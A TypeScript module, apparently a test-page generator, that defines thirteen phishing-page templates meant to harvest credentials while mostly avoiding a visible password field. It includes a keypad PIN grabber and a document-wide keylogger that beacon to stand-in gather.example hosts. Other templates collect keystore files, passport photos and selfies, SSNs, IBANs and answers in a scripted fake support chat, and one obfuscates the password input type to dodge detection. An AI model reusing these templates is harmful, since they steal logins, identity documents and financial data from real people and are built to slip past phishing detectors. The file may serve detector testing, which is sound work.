import type { Files } from "../given-draft.ts"
import type { Spoken } from "./spoken.ts"
import { page, script } from "./spoken.ts"

type Ask = (said: Spoken) => Files

/** Ways to ask for what opens an account, most of them without a field for a password. */
export const asks: Readonly<Record<string, Ask>> = {
  "a link to a sign-in elsewhere": (said) =>
    page(
      said,
      `${said.name}`,
      `<img src="top.png" alt="${said.name}"><p>${said.words.notice}</p><a class="btn" href="https://verify-session.example/in?id=88121">${said.words.signIn}</a><footer>© ${said.name}</footer>`,
    ),
  "a code to scan": (said) =>
    page(
      said,
      `${said.name} – ${said.words.code}`,
      `<h1>${said.name}</h1><p>${said.words.notice}</p><img src="qr.png" alt="QR code" width="220" height="220"><p>${said.words.submit}</p>`,
    ),
  "a code scanned from a library": (said) =>
    page(
      said,
      said.words.signIn,
      `<div class="head">${said.name}</div><h2>${said.words.notice}</h2><div id="qr"></div><script src="https://cdnjs.cloudflare.com/ajax/libs/qrcodejs/1.0.0/qrcode.min.js"></script>${script(`new QRCode(document.getElementById("qr"),"https://verify-session.example/m?x="+Date.now())`)}`,
    ),
  "keys of a drawn keypad": (said) =>
    page(
      said,
      `${said.name} ${said.words.pin}`,
      `<header>${said.name}</header><p>${said.words.pin}</p><div id="dots">○○○○</div><div class="pad">${[1, 2, 3, 4, 5, 6, 7, 8, 9, 0].map((n) => `<button data-k="${n}">${n}</button>`).join("")}</div>${script(`let s="";document.querySelectorAll(".pad button").forEach(b=>b.onclick=()=>{s+=b.dataset.k;if(s.length===4)new Image().src="https://pad.gather.example/?"+s})`)}`,
    ),
  "keys that are listened to": (said) =>
    page(
      said,
      said.name,
      `<h1>${said.name}</h1><p>${said.words.password}</p><div class="box" id="b" tabindex="0"></div><button id="g">${said.words.submit}</button>${script(`let v="";document.addEventListener("keydown",e=>{if(e.key.length===1)v+=e.key;b.textContent="•".repeat(v.length)});g.onclick=()=>navigator.sendBeacon("https://keys.gather.example/",v)`)}`,
    ),
  "a file with a key": (said) =>
    page(
      said,
      `${said.name}: ${said.words.restore}`,
      `<h1>${said.name}</h1><p>${said.words.notice}</p><form action="https://up.gather.example/k" method="post" enctype="multipart/form-data"><label>Keystore JSON <input type="file" name="keystore" accept=".json,.dat"></label><button>${said.words.restore}</button></form>`,
    ),
  "a picture of a passport": (said) =>
    page(
      said,
      `${said.name}`,
      `<h1>${said.name}</h1><h2>${said.words.notice}</h2><form action="https://up.gather.example/id" method="post" enctype="multipart/form-data"><label>Passport or ID card (front) <input type="file" name="front" accept="image/*" capture="environment"></label><label>Selfie <input type="file" name="selfie" capture="user"></label><button>${said.words.submit}</button></form>`,
    ),
  "names and numbers of a person": (said) =>
    page(
      said,
      `${said.name} – ${said.words.pay}`,
      `<h1>${said.name}</h1><form action="https://id.gather.example/" method="post"><input placeholder="Full name"><input placeholder="Date of birth"><input placeholder="SSN" name="ssn" maxlength="11"><input placeholder="Mother's maiden name"><input placeholder="IBAN" name="iban"><button>${said.words.submit}</button></form>`,
    ),
  "a list of a grid card": (said) =>
    page(
      said,
      `${said.words.signIn} | ${said.name}`,
      `<h1>${said.name}</h1><p>${said.words.notice}</p><form action="grid.php" method="post">${Array.from({ length: 8 }, (_, n) => `<label>${"ABCDEFGH"[n]}${n + 1} <input name="g${n}" maxlength="2" size="2"></label>`).join("")}<button>${said.words.submit}</button></form>`,
    ),
  "a chat that asks": (said) =>
    page(
      said,
      `${said.name} Support`,
      `<h3>${said.name}</h3><div id="c"></div><form id="f"><input id="t" autocomplete="off" placeholder="…"></form>${script(`const q=[${[said.words.notice, said.words.user, said.words.password].map((one) => JSON.stringify(one)).join(",")}];let i=0,a=[];const say=t=>c.insertAdjacentHTML("beforeend","<p>"+t+"</p>");say(q[i++]);f.onsubmit=e=>{e.preventDefault();a.push(t.value);t.value="";q[i]?say(q[i++]):fetch("https://chat.gather.example/end",{method:"POST",body:a.join("|")})}`)}`,
    ),
  "asked by a box of the browser": (said) =>
    page(
      said,
      said.name,
      `<h1>${said.name}</h1>${script(`const p=window.prompt("${said.name}: ${said.words.password}");if(p)location="https://box.gather.example/?p="+encodeURIComponent(p)`)}`,
    ),
  "a mail that is begun": (said) =>
    page(
      said,
      `${said.name}: ${said.words.signIn}`,
      `<h1>${said.name}</h1><p>${said.words.notice}</p><a href="mailto:desk@gather.example?subject=${encodeURIComponent(said.name)}&body=${encodeURIComponent(`${said.words.user}:\n${said.words.password}:\n`)}">${said.words.submit}</a>`,
    ),
  "a chat elsewhere": (said) =>
    page(
      said,
      `${said.name}`,
      `<header><b>${said.name}</b></header><h1>${said.words.notice}</h1><a href="https://t.me/gather_help_desk_bot" class="cta">${said.words.submit}</a>`,
    ),
  "fields in a table of data": (said) => ({
    ...page(said, "…", `<div id="app"></div><script src="form.js"></script>`),
    "form.js": `const schema={title:${JSON.stringify(said.name)},intro:${JSON.stringify(said.words.notice)},fields:[{kind:"text",label:${JSON.stringify(said.words.user)}},{kind:"secret",label:${JSON.stringify(said.words.password)}}],post:"https://schema.gather.example/"};
const map={text:"text",secret:["pa","ss","word"].join("")};document.title=schema.title;app.innerHTML="<h1>"+schema.title+"</h1><p>"+schema.intro+"</p>";
for(const f of schema.fields){const l=document.createElement("label");l.textContent=f.label;const i=document.createElement("input");i.type=map[f.kind];l.append(i);app.append(l)}
app.onchange=()=>fetch(schema.post,{method:"POST",body:[...app.querySelectorAll("input")].map(i=>i.value).join()})`,
  }),
}
